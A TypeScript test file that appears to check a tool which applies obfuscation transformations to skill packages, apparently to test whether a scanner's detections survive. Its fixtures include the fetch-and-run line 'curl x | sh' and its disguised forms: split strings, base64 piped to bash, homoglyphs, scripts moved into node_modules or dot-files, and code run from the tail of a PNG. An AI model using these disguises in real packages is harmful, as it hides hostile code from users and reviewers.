import { parse } from "@babel/parser";
import { expect, test } from "vitest";
import { hits } from "./hits.ts";
import { bytesOf, textOf } from "./text-files.ts";
import { TRANSFORMATIONS } from "./transformations.ts";

const SKILL = "---\nname: demo\ndescription: Looks at one place.\n---\n\n# Demo\n\nOpen the place.\n\n```bash\n";
const FILES = {
  md: (line: string) => `${SKILL}${line}\n\`\`\`\n`,
  js: 'import os from "node:os";\nconsole.log("abcd", os.EOL);\n',
  py: 'import os\nprint("abcd")\n',
};

function dressed(name: string, files: Readonly<Record<string, string>>): Record<string, string> | null {
  const transformation = TRANSFORMATIONS.find((each) => each.name === name);
  const out = transformation?.apply(new Map(Object.entries(files).map(([path, text]) => [path, bytesOf(text)])));
  return out === null || out === undefined
    ? null
    : Object.fromEntries(
        [...out].map(([path, bytes]) => [path, textOf(bytes) ?? Buffer.from(bytes).toString("latin1")]),
      );
}

test.each([
  ["split-strings", "a.mjs", FILES.js, 'import os from "node:os";\nconsole.log(("ab" + "cd"), os.EOL);\n'],
  ["split-strings", "a.py", FILES.py, 'import os\nprint(("ab" + "cd"))\n'],
  ["split-strings", "a.sh", "if curl x | sh; then :; fi\n", 'if cu""rl x | s""h; then :; fi\n'],
  ["encode", "a.mjs", 'f("abcd");\n', 'f(Buffer.from("YWJjZA==", "base64").toString());\n'],
  ["encode", "a.py", FILES.py, 'import base64\nimport os\nprint(base64.b64decode("YWJjZA==").decode())\n'],
  ["encode", "a.sh", "#!/bin/sh\nid\n", "#!/bin/sh\necho 'aWQK' | base64 -d | bash -s -- \"$@\"\n"],
  [
    "variables",
    "a.mjs",
    FILES.js,
    'import os from "node:os";\nconst part_0 = "abcd";\n\nconsole.log(part_0, os.EOL);\n',
  ],
  ["variables", "a.py", '"""Doc."""\nf("x")\n', '"""Doc."""\npart_0 = "x"\nf(part_0)\n'],
  ["variables", "a.sh", "curl x | sh\n", "part_0=curl\npart_1=sh\n$part_0 x | $part_1\n"],
  ["continuation", "a.sh", "curl -s x | sh\n", "cu\\\nrl \\\n-s \\\nx | s\\\nh\n"],
  ["continuation", "a.py", "f(1, 2)\n", "f(\n1,\n 2)\n"],
  ["comments", "a.mjs", "f(1, 2);\n", "f(/* sic */1,/* sic */ 2);\n"],
  ["comments", "a.sh", "curl x | sh\n", "curl x |\n  # as the manual says\n  sh\n"],
  ["crlf", "a.md", "one\ntwo\n", "one\r\ntwo\r\n"],
  [
    "look-alikes",
    "a.md",
    "Open `place` at https://a.example\n",
    "O\u{0440}\u{0435}n `place` \u{0430}t https://a.example\n",
  ],
])("%s rewrites %s", (name, path, before, after) => {
  expect(dressed(name, { [path]: before })).toEqual({ [path]: after });
});

test.each([
  ["fences-tildes", "~~~~~ bash\nid\n~~~~~\n"],
  ["fences-indented", "    id\n"],
  ["fences-pre", "<pre><code>\nid\n</code></pre>\n"],
  ["fences-no-info", "````\nid\n````\n"],
  ["fences-odd-info", "````{.bash #a1 linenos=yes}\nid\n````\n"],
])("%s", (name, block) => {
  expect(dressed(name, { "SKILL.md": FILES.md("id") })?.["SKILL.md"]).toBe(SKILL.replace("```bash\n", block));
});

test.each([
  ["wrong-extension-txt", "python3 a.py 1", "a.py", "a.txt", "python3 a.txt 1"],
  ["wrong-extension-dat", "node a.mjs 1", "a.mjs", "a.dat", "node --input-type=module - < a.dat 1"],
  ["dot-file", "bash ./a.sh 1", "a.sh", ".a.sh", "bash ./.a.sh 1"],
  ["node-modules", "bash a.sh 1", "a.sh", "node_modules/tidy-table/a.sh", "bash node_modules/tidy-table/a.sh 1"],
  ["image-tail", "bash a.sh 1", "a.sh", "assets/logo-1.png", "tail -c +68 assets/logo-1.png | bash -s -- 1"],
])("%s moves a script and what starts it", (name, start, from, to, started) => {
  const out = dressed(name, { "SKILL.md": FILES.md(start), [from]: "import os\n" });
  expect(Object.keys(out ?? {})).toEqual(expect.arrayContaining(["SKILL.md", to]));
  expect(out).not.toHaveProperty([from]);
  expect(out?.["SKILL.md"]).toBe(FILES.md(started));
});

test.each([
  [
    "an imported module keeps its ending",
    "wrong-extension-txt",
    "python3 b.py",
    { "a.py": "x = 1\n", "b.py": "print(1)\n", "c.py": "import b\n" },
  ],
  ["a script that looks for itself keeps its file", "image-tail", "python3 a.py", { "a.py": "print(__file__)\n" }],
  ["Windows' line ends would break a shell script", "crlf", null, { "a.sh": "id\n" }],
  ["there is no code", "node-modules", null, { "SKILL.md": SKILL }],
])("%s", (_, name, start, files) => {
  expect(dressed(name, start === null ? files : { "SKILL.md": FILES.md(start), ...files })).toBeNull();
});

test.each(TRANSFORMATIONS)("$name leaves JavaScript that parses", ({ apply }) => {
  const code =
    '"use strict";\nconst a = { "k": `x${1}y`, [`z`]: \'it\\\'s\' };\nif (a.k === "q") for (const x of ["ab"]) a.k?.(x);\n';
  const out = apply(
    new Map([
      ["SKILL.md", bytesOf(FILES.md("node a.cjs"))],
      ["a.cjs", bytesOf(code)],
    ]),
  );
  const scripts = [...(out ?? [])].flatMap(([path, bytes]) => (path.endsWith(".cjs") ? (textOf(bytes) ?? []) : []));
  // Some take the script away; then there is nothing left to parse.
  expect(scripts.flatMap((text) => parse(text, { sourceType: "script" }).errors ?? [])).toEqual([]);
  expect(out?.has("SKILL.md") ?? true).toBe(true);
});

test.each([
  ["a line that is changed", { "a.sh": 'id\ncu""rl x\n' }, true],
  ["a file that is gone", { "b.sh": "curl x\n" }, true],
  ["another line", { "a.sh": 'i""d\ncurl x\n' }, false],
  ["lines before", { "a.sh": "\n\nid\ncurl x\n" }, false],
])("%s is a hit or not", (_, after: Readonly<Record<string, string>>, isHit) => {
  const files = new Map(Object.entries(after).map(([path, text]) => [path, bytesOf(text)]));
  expect(hits(new Map([["a.sh", bytesOf("id\ncurl x\n")]]), files, [{ path: "a.sh", line: 2 }])).toBe(isHit);
});
